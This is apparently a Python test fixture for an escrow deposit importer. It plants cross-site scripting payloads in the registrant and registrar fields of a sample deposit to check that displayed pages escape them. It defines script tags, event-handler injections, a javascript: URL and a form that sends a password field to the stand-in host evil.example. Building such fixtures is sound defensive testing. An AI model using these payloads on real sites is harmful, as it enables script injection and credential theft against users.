"""A replica imported from an escrow deposit whose registrant-controlled values hold markup:
what an attacker who registers a domain can put in front of the page."""

from __future__ import annotations

from pathlib import Path
from xml.sax.saxutils import escape

from escrow import importer

DEPOSITS = Path(__file__).parent / "data" / "deposits"
FULL = DEPOSITS / "example_2026-11-22_full_S1_R0.xml"

#: Markup in a verified organisation's name, street and city (all published), and in the
#: registrar's name and URL.
ORG = "<script>alert(1)</script>"
STREET = '"><img src=x onerror=alert(2)>'
CITY = "</dd><form action=https://evil.example><input name=pw></form>"
REGISTRAR = "Registrar <b onmouseover=alert(3)>X</b>"
REGISTRAR_URL = "javascript:alert(4)"
HOSTILE = (ORG, STREET, CITY, REGISTRAR, REGISTRAR_URL)


def write(tmp: Path) -> Path:
    """Import the hostile deposit into a new replica file; returns its path."""
    text = FULL.read_text(encoding="utf-8")
    for old, new in (
        ("<contact:org>Example Inc.</contact:org>", f"<contact:org>{escape(ORG)}</contact:org>"),
        (
            "<contact:street>123 Example Dr.</contact:street>",
            f"<contact:street>{escape(STREET)}</contact:street>",
        ),
        ("<contact:city>Dulles</contact:city>", f"<contact:city>{escape(CITY)}</contact:city>"),
        (
            "<rdeRegistrar:name>Registrar X</rdeRegistrar:name>",
            f"<rdeRegistrar:name>{escape(REGISTRAR)}</rdeRegistrar:name>",
        ),
        (
            "<rdeRegistrar:url>https://www.registrar-x.example</rdeRegistrar:url>",
            f"<rdeRegistrar:url>{REGISTRAR_URL}</rdeRegistrar:url>",
        ),
    ):
        assert old in text, old
        text = text.replace(old, new, 1)
    deposit = tmp / FULL.name
    deposit.write_text(text, encoding="utf-8")
    replica = tmp / "hostile.sqlite"
    importer.import_deposits(replica, [deposit])
    return replica
